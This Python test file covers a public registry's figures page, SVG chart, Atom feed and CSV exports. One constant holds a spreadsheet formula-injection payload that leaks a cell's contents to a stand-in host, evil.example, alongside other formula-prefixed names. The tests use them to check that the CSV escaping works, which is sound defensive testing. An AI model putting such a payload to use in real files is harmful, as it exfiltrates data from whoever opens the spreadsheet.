"""Registry-wide figures with an SVG chart, the Atom feed of new filings, and the CSV exports; on SQLite and
PostgreSQL."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET

from starlette.testclient import TestClient

from kiroku.ledger.note import Signer
from kiroku.registry.feeds import csv_cell
from kiroku.registry.firms import approve_firm
from tests.registry.conftest import FirmFiles, engine_of, file, register

ATOM = "{http://www.w3.org/2005/Atom}"
SVG = "{http://www.w3.org/2000/svg}"
EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def _file_statements(
    registry: TestClient, acme: FirmFiles, hoshi: FirmFiles, acme_token: str | None = None
) -> dict[str, int]:
    """Acme files its statement and a correction, Hoshi its statement; the filing ids by name."""
    if acme_token is None:
        _, acme_token = register(registry, acme)
    _, hoshi_token = register(registry, hoshi)
    ids = {}
    for name, token, body in (
        ("acme-v1", acme_token, acme.read(acme.first, "statement.json")),
        ("hoshi", hoshi_token, hoshi.read(hoshi.first, "statement.json")),
        ("acme-v2", acme_token, acme.read(acme.second, "statement.json")),
    ):
        answer = file(registry, token, body)
        assert answer.status_code == 201, answer.text
        ids[name] = answer.json()["filing"]["id"]
    return ids


def _register_named(registry: TestClient, name: str, key: str | None = None) -> tuple[str, str]:
    """Register (and approve) a firm under ``name``, with a new key unless given; its slug and token."""
    key = key or Signer.generate("other.example/log").verifier().to_vkey()
    answer = registry.post(
        "/api/v1/firms", json={"name": name, "address": "Tokyo", "contact": "c@x.example", "key": key}
    )
    assert answer.status_code == 201, answer.text
    slug, token = answer.json()["firm"]["slug"], answer.json()["token"]
    approve_firm(engine_of(registry), slug, "test-admin")
    return slug, token


def _svg(page: str) -> ET.Element:
    found = re.search(r"<svg .*?</svg>", page, re.DOTALL)
    assert found is not None, "no inline SVG in the page"
    return ET.fromstring(found.group(0))


def _csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


# --- figures ---


def test_figures_count_each_status_per_requirement_from_the_latest_statements(
    registry: TestClient, acme: FirmFiles, hoshi: FirmFiles
) -> None:
    _file_statements(registry, acme, hoshi)
    _register_named(registry, "Tsuki Systems")  # registered, never filed
    figures = registry.get("/figures.json").json()
    assert figures["year"] == 2026
    [year] = figures["years"]
    assert (year["year"], year["firms"], year["filed"], year["statements"]) == (2026, 3, 2, 3)
    assert year["totals"]["p1-provenance"] == {"complies": 1, "partially": 0, "explains": 1, "not_filed": 1}
    for requirement in year["requirements"]:
        if requirement["id"] != "p1-provenance":
            assert year["totals"][requirement["id"]] == {
                "complies": 2,
                "partially": 0,
                "explains": 0,
                "not_filed": 1,
            }
    assert year["totals"] == registry.get("/index.json?year=2026").json()["totals"]


def test_figures_of_an_empty_registry_and_of_a_year_without_statements(registry: TestClient) -> None:
    assert registry.get("/figures.json").json() == {"year": None, "years": []}
    page = registry.get("/figures?lang=en")
    assert page.status_code == 200 and "No statement has been filed yet." in page.text
    missing = registry.get("/figures.json?year=1999")
    assert missing.status_code == 404 and missing.json()["error"]["code"] == "not_found"


def test_the_chart_draws_one_bar_per_requirement_readable_without_colour(
    registry: TestClient, acme: FirmFiles, hoshi: FirmFiles
) -> None:
    _file_statements(registry, acme, hoshi)
    page = registry.get("/figures?lang=en")
    assert page.status_code == 200
    # the CSP allows no inline style or script: the chart is drawn with SVG presentation attributes only
    assert "style=" not in page.text and "<style" not in page.text
    assert re.findall(r"<script(?![^>]*\bsrc=)", page.text) == []
    svg = _svg(page.text)
    assert svg.find(f"{SVG}title") is not None
    bars = [g for g in svg.iter(f"{SVG}g") if g.get("class") == "bar"]
    requirements = registry.get("/figures.json").json()["years"][0]["requirements"]
    assert [bar.get("data-requirement") for bar in bars] == [r["id"] for r in requirements]
    provenance = next(bar for bar in bars if bar.get("data-requirement") == "p1-provenance")
    title = provenance.find(f"{SVG}title")
    assert title is not None
    assert title.text == "Provenance and watermarking: Complies 1, Partially 0, Explains 1, Not filed 0"
    segments = [rect for rect in provenance.iter(f"{SVG}rect")]
    assert [(rect.get("class"), rect.get("fill")) for rect in segments] == [
        ("complies", "#e6f4ea"),
        ("explains", "#fdecea"),
    ]
    assert sum(float(rect.get("width", "0")) for rect in segments) == 420
    texts = ["".join(text.itertext()) for text in provenance.iter(f"{SVG}text")]
    assert "Complies 1 · Partially 0 · Explains 1 · Not filed 0" in texts  # counts visible, not only colours


def test_the_figures_page_speaks_japanese(registry: TestClient, acme: FirmFiles, hoshi: FirmFiles) -> None:
    _file_statements(registry, acme, hoshi)
    page = registry.get("/figures?lang=ja")
    assert '<html lang="ja">' in page.text and "登録簿の統計 — 2026" in page.text
    svg = _svg(page.text)
    provenance = next(g for g in svg.iter(f"{SVG}g") if g.get("data-requirement") == "p1-provenance")
    texts = ["".join(text.itertext()) for text in provenance.iter(f"{SVG}text")]
    assert "来歴情報と電子透かし" in texts and "遵守 1 · 一部遵守 0 · 説明 1 · 未提出 0" in texts
    legend = "".join(svg.itertext())
    assert all(label in legend for label in ("遵守", "一部遵守", "説明", "未提出"))
    assert '<a href="/figures">統計</a>' in registry.get("/?lang=ja").text


# --- the Atom feed ---


def test_the_feed_lists_filings_newest_first_with_their_links(
    registry: TestClient, acme: FirmFiles, hoshi: FirmFiles
) -> None:
    _, token = register(registry, acme)
    notification = file(registry, token, acme.read(acme.first, "notification.json")).json()["filing"]
    ids = _file_statements(registry, acme, hoshi, token)
    answer = registry.get("/feed.atom?lang=en")
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("application/atom+xml")
    feed = ET.fromstring(answer.content)
    assert feed.tag == f"{ATOM}feed"
    assert feed.findtext(f"{ATOM}title") == "New filings — AI IP Code public registry"
    self_link = next(link for link in feed.findall(f"{ATOM}link") if link.get("rel") == "self")
    assert self_link.get("href") == "http://testserver/feed.atom"
    entries = feed.findall(f"{ATOM}entry")
    expected = [ids["acme-v2"], ids["hoshi"], ids["acme-v1"], notification["id"]]
    urls = [f"http://testserver/filings/{n}" for n in expected]
    assert [entry.findtext(f"{ATOM}id") for entry in entries] == urls
    assert [entry.find(f"{ATOM}link").get("href") for entry in entries] == urls  # type: ignore[union-attr]
    assert [entry.findtext(f"{ATOM}title") for entry in entries] == [
        "Acme AI K.K. — statement 2026 v2",
        "Hoshi Labs — statement 2026 v1",
        "Acme AI K.K. — statement 2026 v1",
        "Acme AI K.K. — notification 2026 v1",
    ]
    assert [entry.findtext(f"{ATOM}author/{ATOM}name") for entry in entries] == [
        "Acme AI K.K.",
        "Hoshi Labs",
        "Acme AI K.K.",
        "Acme AI K.K.",
    ]
    received = {f["id"]: f["received_at"] for f in registry.get("/firms/acme-ai-k-k.json").json()["filings"]}
    assert entries[0].findtext(f"{ATOM}updated") == received[ids["acme-v2"]]
    assert feed.findtext(f"{ATOM}updated") == received[ids["acme-v2"]]
    for page in ("/", "/firms", "/figures"):
        assert (
            '<link rel="alternate" type="application/atom+xml" href="/feed.atom"' in registry.get(page).text
        )


def test_the_feed_stays_well_formed_whatever_a_firm_is_named(registry: TestClient, acme: FirmFiles) -> None:
    name = "<b>Acme</b> & Sons \x01\x1b K.K."
    _, token = _register_named(registry, name, acme.key)
    filed = file(registry, token, acme.read(acme.first, "ab2013.json"))
    assert filed.status_code == 201, filed.text
    feed = ET.fromstring(registry.get("/feed.atom").content)
    entry = feed.find(f"{ATOM}entry")
    assert entry is not None
    assert entry.findtext(f"{ATOM}author/{ATOM}name") == "<b>Acme</b> & Sons \ufffd\ufffd K.K."


def test_an_empty_registry_has_an_empty_feed(registry: TestClient) -> None:
    feed = ET.fromstring(registry.get("/feed.atom").content)
    assert feed.findall(f"{ATOM}entry") == [] and feed.findtext(f"{ATOM}updated")


# --- CSV ---


def test_the_matrix_as_csv_with_the_filters_of_the_page(
    registry: TestClient, acme: FirmFiles, hoshi: FirmFiles
) -> None:
    ids = _file_statements(registry, acme, hoshi)
    answer = registry.get("/index.csv?year=2026")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert not answer.content.startswith(b"\xef\xbb\xbf")  # no byte-order mark
    rows = _csv(answer.text)
    requirements = [r["id"] for r in registry.get("/index.json?year=2026").json()["requirements"]]
    assert rows[0] == ["firm", "name", "flagged", "statement", "version", *requirements]
    assert [row[:5] for row in rows[1:]] == [
        ["acme-ai-k-k", "Acme AI K.K.", "false", str(ids["acme-v2"]), "2"],
        ["hoshi-labs", "Hoshi Labs", "false", str(ids["hoshi"]), "1"],
    ]
    provenance = rows[0].index("p1-provenance")
    assert [row[provenance] for row in rows[1:]] == ["complies", "explains"]
    explaining = _csv(registry.get("/index.csv?year=2026&requirement=p1-provenance&status=explains").text)
    assert [row[0] for row in explaining[1:]] == ["hoshi-labs"]
    assert [row[0] for row in _csv(registry.get("/index.csv?q=acme").text)[1:]] == ["acme-ai-k-k"]
    footer = registry.get("/?year=2026&q=acme&lang=en").text
    assert '<a href="/index.csv?year=2026&amp;q=acme" type="text/csv">This table as CSV</a>' in footer


def test_every_filing_as_csv(registry: TestClient, acme: FirmFiles, hoshi: FirmFiles) -> None:
    ids = _file_statements(registry, acme, hoshi)
    answer = registry.get("/filings.csv")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    rows = _csv(answer.text)
    assert rows[0] == [
        "id", "firm", "kind", "year", "version", "sha256", "ledger_size", "ledger_root", "received_at",
    ]  # fmt: skip
    assert [row[:5] for row in rows[1:]] == [
        [str(ids["acme-v1"]), "acme-ai-k-k", "statement", "2026", "1"],
        [str(ids["hoshi"]), "hoshi-labs", "statement", "2026", "1"],
        [str(ids["acme-v2"]), "acme-ai-k-k", "statement", "2026", "2"],
    ]
    filing = registry.get(f"/filings/{ids['acme-v2']}.json").json()["filing"]
    assert rows[3][5:] == [
        filing["sha256"],
        str(filing["ledger"]["size"]),
        filing["ledger"]["root"],
        filing["received_at"],
    ]


def test_csv_cells_cannot_run_as_spreadsheet_formulas(registry: TestClient, acme: FirmFiles) -> None:
    register(registry, acme)
    slug, _ = _register_named(registry, EVIL)
    for name in ("+cmd", "-2+3", "@SUM(A1)"):
        _register_named(registry, name)
    rows = _csv(registry.get("/index.csv").text)
    names = {row[1] for row in rows[1:]}
    assert "'" + EVIL in names and EVIL not in names
    assert {"'+cmd", "'-2+3", "'@SUM(A1)", "Acme AI K.K."} <= names
    assert next(row for row in rows[1:] if row[0] == slug)[1] == "'" + EVIL


def test_a_cell_starting_with_a_tab_or_carriage_return_is_neutralised_too() -> None:
    assert [csv_cell(v) for v in ("\tx", "\rx", "=1", "a=1", "", None, True, 7)] == [
        "'\tx", "'\rx", "'=1", "a=1", "", "", "true", 7,
    ]  # fmt: skip
